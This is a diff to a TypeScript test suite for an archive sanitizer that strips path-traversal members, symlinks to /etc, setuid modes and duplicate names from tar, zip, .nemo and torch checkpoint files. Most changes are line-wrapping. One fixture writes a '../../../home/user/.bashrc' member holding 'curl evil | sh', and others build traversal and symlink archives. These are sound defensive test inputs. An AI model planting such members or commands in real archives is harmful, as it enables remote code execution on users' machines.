@@ -37,7 +37,9 @@ function write(name: string, data: Buffer): string {
 
 /** Only the archives the test wrote, and what clean left: no temporary files. */
 function filesInRoot(): string[] {
-  return readdirSync(box.root).filter((name) => name !== 'dest' && name !== 'outside').sort();
+  return readdirSync(box.root)
+    .filter((name) => name !== 'dest' && name !== 'outside')
+    .sort();
 }
 
 const config = 'name: EncDecCTCModel\nsample_rate: 16000\n';
@@ -68,7 +70,9 @@ describe('clean: tar', () => {
       ['SYMLINK', './lnk'],
       ['SYMLINK', './lnk/payload'],
     ]);
-    expect(report.findings.filter((finding) => finding.action === 'sanitized').map((finding) => [finding.code, finding.member])).toEqual([['UNSAFE_MODE', './run.sh']]);
+    expect(report.findings.filter((finding) => finding.action === 'sanitized').map((finding) => [finding.code, finding.member])).toEqual([
+      ['UNSAFE_MODE', './run.sh'],
+    ]);
 
     expect(pythonTar(output).map((m) => [m.name, m.type, m.mode.toString(8), m.uid, m.gid, m.uname, m.gname, m.mtime, m.sha256])).toEqual([
       ['.', '5', '755', 0, 0, '', '', 1_700_000_000, null],
@@ -94,7 +98,7 @@ describe('clean: tar', () => {
     const tar = readFileSync(output);
     expect(tar.length % 10240).toBe(0);
     const types: string[] = [];
-    for (let at = 0; at < tar.length; ) {
+    for (let at = 0; at < tar.length;) {
       const block = tar.subarray(at, at + 512);
       if (block.every((byte) => byte === 0)) break;
       types.push(String.fromCharCode(block[156]!));
@@ -142,7 +146,13 @@ describe('clean: tar', () => {
   it('writes a member of exactly 100 ASCII bytes in the name field, and a longer one through PAX', async () => {
     const exact = `${'a'.repeat(50)}/${'b'.repeat(49)}`;
     const longer = `${'a'.repeat(50)}/${'c'.repeat(60)}`;
-    const input = write('names.tar', makeTar([{ name: exact, body: 'x' }, { name: longer.slice(0, 100), pax: { path: longer }, body: 'y' }]));
+    const input = write(
+      'names.tar',
+      makeTar([
+        { name: exact, body: 'x' },
+        { name: longer.slice(0, 100), pax: { path: longer }, body: 'y' },
+      ]),
+    );
     const output = join(box.root, 'out.tar');
     await clean(input, output);
     const tar = readFileSync(output);
@@ -152,7 +162,10 @@ describe('clean: tar', () => {
   });
 
   it('refuses a truncated tar (a container finding): rejects with the report and leaves no output file', async () => {
-    const whole = makeTar([{ name: 'a.txt', body: 'a' }, { name: 'weights.bin', body: bytes(5000) }]);
+    const whole = makeTar([
+      { name: 'a.txt', body: 'a' },
+      { name: 'weights.bin', body: bytes(5000) },
+    ]);
     const input = write('cut.tar', whole.subarray(0, 512 * 3 + 100));
     const output = join(box.root, 'out.tar');
     const error = await rejection(clean(input, output));
@@ -186,7 +199,13 @@ describe('clean: tar', () => {
   it('checks its own output: a zip inside a member that dropping the tail would expose to unzip refuses the clean', async () => {
     // The inner zip's end record is in the input's tail only once the 100 KiB member after it is gone.
     const inner = makeZip([{ name: '../../escape.sh', body: 'pwned' }]);
-    const input = write('model.nemo', makeTar([{ name: 'checkpoint.pt', body: inner }, { name: '../big.bin', body: bytes(100_000) }]));
+    const input = write(
+      'model.nemo',
+      makeTar([
+        { name: 'checkpoint.pt', body: inner },
+        { name: '../big.bin', body: bytes(100_000) },
+      ]),
+    );
     expect((await scan(input, { policy: 'skip' })).verdict).toBe('skipped');
     const error = await rejection(clean(input, join(box.root, 'out.nemo')));
     expect(error.report?.findings.find((finding) => finding.action === 'refused')).toMatchObject({ code: 'AMBIGUOUS_FORMAT', member: 'checkpoint.pt' });
@@ -196,7 +215,15 @@ describe('clean: tar', () => {
 
   it('keeps the torch checkpoint that ends an uncompressed .nemo, which unzip could also read', async () => {
     const checkpoint = torchZip('model_weights', { 'data.pkl': bytes(200), 'data/0': bytes(3000, 4), version: '3\n' });
-    const input = write('model.nemo', makeTar([{ name: './', type: '5' }, { name: './evil', type: '2', linkname: '/etc' }, { name: './model_config.yaml', body: config }, { name: './model_weights.ckpt', body: checkpoint }]));
+    const input = write(
+      'model.nemo',
+      makeTar([
+        { name: './', type: '5' },
+        { name: './evil', type: '2', linkname: '/etc' },
+        { name: './model_config.yaml', body: config },
+        { name: './model_weights.ckpt', body: checkpoint },
+      ]),
+    );
     const output = join(box.root, 'clean.nemo');
     expect(await clean(input, output)).toMatchObject({ removed: 1, verdict: 'skipped' });
     expect(pythonTar(output).map((m) => [m.name, m.sha256])).toEqual([
@@ -218,7 +245,13 @@ describe('clean: tar', () => {
 
 /** torch.save's layout, with an escape and a symlink added among the real records. */
 function hostileTorch(): ZipMember[] {
-  const torch = (name: string, body: string | Buffer): ZipMember => ({ name: `archive/${name}`, body, utf8Flag: true, dataDescriptor: Buffer.from(body).length > 0, align: 64 });
+  const torch = (name: string, body: string | Buffer): ZipMember => ({
+    name: `archive/${name}`,
+    body,
+    utf8Flag: true,
+    dataDescriptor: Buffer.from(body).length > 0,
+    align: 64,
+  });
   return [
     torch('data.pkl', bytes(300, 2)),
     torch('../../../home/user/.bashrc', 'curl evil | sh\n'),
@@ -324,7 +357,14 @@ describe('clean: zip', () => {
   });
 
   it('sanitizes a setuid unix mode in the central record, so a scan of the copy finds nothing', async () => {
-    const input = write('modes.zip', makeZip([{ name: 'run.sh', body: '#!/bin/sh\n', unixMode: 0o104777 }, { name: 'data/', unixMode: 0o040777 }, { name: 'data/a.txt', body: 'a', unixMode: 0o100644 }]));
+    const input = write(
+      'modes.zip',
+      makeZip([
+        { name: 'run.sh', body: '#!/bin/sh\n', unixMode: 0o104777 },
+        { name: 'data/', unixMode: 0o040777 },
+        { name: 'data/a.txt', body: 'a', unixMode: 0o100644 },
+      ]),
+    );
     const output = join(box.root, 'out.zip');
     const report = await clean(input, output);
     expect(report.findings.map((finding) => [finding.code, finding.member, finding.action])).toEqual([
@@ -337,7 +377,14 @@ describe('clean: zip', () => {
   });
 
   it('keeps ZIP64 members (NumPy writes them for every array) readable', async () => {
-    const input = write('arrays.npz', makeZip([{ name: 'x.npy', body: bytes(3000), zip64: true }, { name: '../y.npy', body: 'y', zip64: true }, { name: 'z.npy', body: bytes(500, 9), zip64: true, dataDescriptor: true }]));
+    const input = write(
+      'arrays.npz',
+      makeZip([
+        { name: 'x.npy', body: bytes(3000), zip64: true },
+        { name: '../y.npy', body: 'y', zip64: true },
+        { name: 'z.npy', body: bytes(500, 9), zip64: true, dataDescriptor: true },
+      ]),
+    );
     const output = join(box.root, 'clean.npz');
     expect(await clean(input, output)).toMatchObject({ removed: 1 });
     const after = pythonZip(output);
@@ -351,7 +398,15 @@ describe('clean: zip', () => {
   });
 
   it('keeps the first of two duplicate names and of two names that collide, and drops the others', async () => {
-    const input = write('dups.zip', makeZip([{ name: 'README', body: 'one' }, { name: 'a.txt', body: 'first' }, { name: 'readme', body: 'two' }, { name: 'a.txt', body: 'second' }]));
+    const input = write(
+      'dups.zip',
+      makeZip([
+        { name: 'README', body: 'one' },
+        { name: 'a.txt', body: 'first' },
+        { name: 'readme', body: 'two' },
+        { name: 'a.txt', body: 'second' },
+      ]),
+    );
     const output = join(box.root, 'out.zip');
     const report = await clean(input, output);
     expect(report.findings.map((finding) => [finding.code, finding.member, finding.action])).toEqual([
@@ -366,7 +421,13 @@ describe('clean: zip', () => {
   });
 
   it('writes an empty zip when every member is dropped', async () => {
-    const input = write('all-bad.zip', makeZip([{ name: '../a', body: 'a' }, { name: '/etc/b', body: 'b' }]));
+    const input = write(
+      'all-bad.zip',
+      makeZip([
+        { name: '../a', body: 'a' },
+        { name: '/etc/b', body: 'b' },
+      ]),
+    );
     const output = join(box.root, 'out.zip');
     expect(await clean(input, output)).toMatchObject({ removed: 2, verdict: 'skipped' });
     expect(pythonZip(output)).toEqual({ testzip: null, members: [] });
